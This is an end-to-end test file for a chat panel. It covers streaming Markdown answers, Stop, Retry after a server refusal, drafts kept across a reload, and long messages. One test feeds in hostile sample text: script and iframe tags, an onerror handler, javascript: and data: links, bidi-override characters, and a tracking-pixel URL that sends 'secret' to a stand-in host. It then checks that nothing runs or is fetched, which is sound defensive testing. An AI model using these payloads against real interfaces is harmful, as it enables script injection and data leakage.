import { beforeEach, expect, test } from "vitest";

import {
  gate,
  gated,
  refusal,
  reply,
  stream,
  textChunk,
  event,
  finishChunk,
  DONE,
  usageChunk,
} from "../support/providers/answers.ts";
import { message, newConversation, reload, say } from "../support/ui/hand.ts";
import { useScriptedChat } from "./useChat.ts";

const chat = await useScriptedChat();
const { workbench, panel, server } = chat;

beforeEach(() => newConversation(workbench().window));

test("an answer streams in as Markdown, and the gauge then shows what the server reported", async () => {
  const [first, rest] = [gate(), gate()];
  const usage = { prompt: 8_000, cached: 0, output: 20, reasoning: 0 };
  const pieces = [
    [first, event(textChunk("## Plan\n\n- read `src/a.ts`\n"))],
    [
      rest,
      event(textChunk("- run **tests**\n\n```ts\nconst answer = 42;\n```\n")) +
        event(finishChunk("stop")) +
        event(usageChunk(usage)) +
        DONE,
    ],
  ] as const;
  chat.next = { body: gated(pieces) };
  await say(panel(), "What is the plan?");
  await message(panel(), "What is the plan?").waitFor();
  first.open();
  await panel().getByRole("heading", { name: "Plan", exact: true }).waitFor();
  await panel().getByRole("button", { name: "Stop" }).waitFor();
  rest.open();
  await panel().locator("code .hljs-number", { hasText: "42" }).waitFor();
  await panel()
    .getByText(/25% of 32k · reported/)
    .waitFor();
  await workbench().window.statusBar("25% of 32k").waitFor();
  expect(await panel().getByRole("meter").getAttribute("aria-valuenow")).toBe("8020");
});

test("Stop ends the answer at once; what had come stays, and the chat goes on", async () => {
  const [first, never] = [gate(), gate()];
  chat.next = {
    body: gated([
      [first, event(textChunk("Half of"))],
      [never, event(textChunk(" the rest"))],
    ]),
  };
  await say(panel(), "Tell me all.");
  first.open();
  await message(panel(), "Half of").waitFor();
  await panel().getByRole("button", { name: "Stop" }).click();
  await panel()
    .getByRole("article")
    .getByText(/Stopped/)
    .waitFor();
  chat.next = reply("Here again.");
  await say(panel(), "And now?");
  await message(panel(), "Here again.").waitFor();
  expect(await message(panel(), "Half of").innerText()).not.toContain("the rest");
  never.open();
});

test("a server that refuses says why, and Retry asks again", async () => {
  chat.next = refusal(400, { error: { message: "out of memory" } });
  await say(panel(), "Hello?");
  await panel()
    .getByRole("article")
    .getByText(/out of memory/)
    .waitFor();
  chat.next = reply("Hello.");
  await panel().getByRole("button", { name: "Retry" }).click();
  await message(panel(), "Hello.").waitFor();
  expect(JSON.stringify(server.requests.at(-1)?.body)).toBe(JSON.stringify(server.requests.at(-2)?.body));
});

test("what was written before a reload is there after it", async () => {
  chat.next = reply("Remembered.");
  await say(panel(), "Remember me.");
  await message(panel(), "Remembered.").waitFor();
  await panel().getByLabel("Message", { exact: true }).fill("Half a thought");
  await reload(workbench().window);
  await message(panel(), "Remembered.").waitFor();
  expect(await message(panel(), "Remember me.").innerText()).toContain("Remember me.");
  await expect
    .poll(() => panel().getByLabel("Message", { exact: true }).inputValue(), { timeout: 10_000 })
    .toBe("Half a thought");
  await panel().getByLabel("Message", { exact: true }).fill("");
});

test("hostile text is shown as text: nothing runs, nothing is fetched", async () => {
  const { page } = workbench().window;
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const hostile = [
    "<script>top.hacked = 1</script><img src=x onerror='top.hacked = 1'>",
    "[click](javascript:top.hacked=1) ![pixel](https://tracker.invalid/p.png?d=secret)",
    "<iframe src='https://tracker.invalid'></iframe> \u202Eevil\u202C \u0007bell",
    "[data](data:text/html,<script>1</script>)",
  ].join("\n\n");
  chat.next = stream([textChunk(hostile), finishChunk("stop")]);
  await say(panel(), hostile);
  await message(panel(), "pixel").waitFor();
  expect(await panel().locator(".row script, .row iframe, .row img").count()).toBe(0);
  expect(await panel().locator("a[href^='javascript:'], a[href^='data:']").count()).toBe(0);
  expect(asked.filter((url) => url.includes("tracker.invalid"))).toEqual([]);
  expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
});

test("a very long message is sent whole and the panel() stays usable", async () => {
  chat.next = reply("That is long.");
  const long = "0123456789".repeat(10_000);
  await say(panel(), long);
  await message(panel(), "That is long.").waitFor();
  expect(JSON.stringify(server.requests.at(-1)?.body)).toContain(long);
  await panel()
    .getByText(/Show all/)
    .first()
    .waitFor();
});
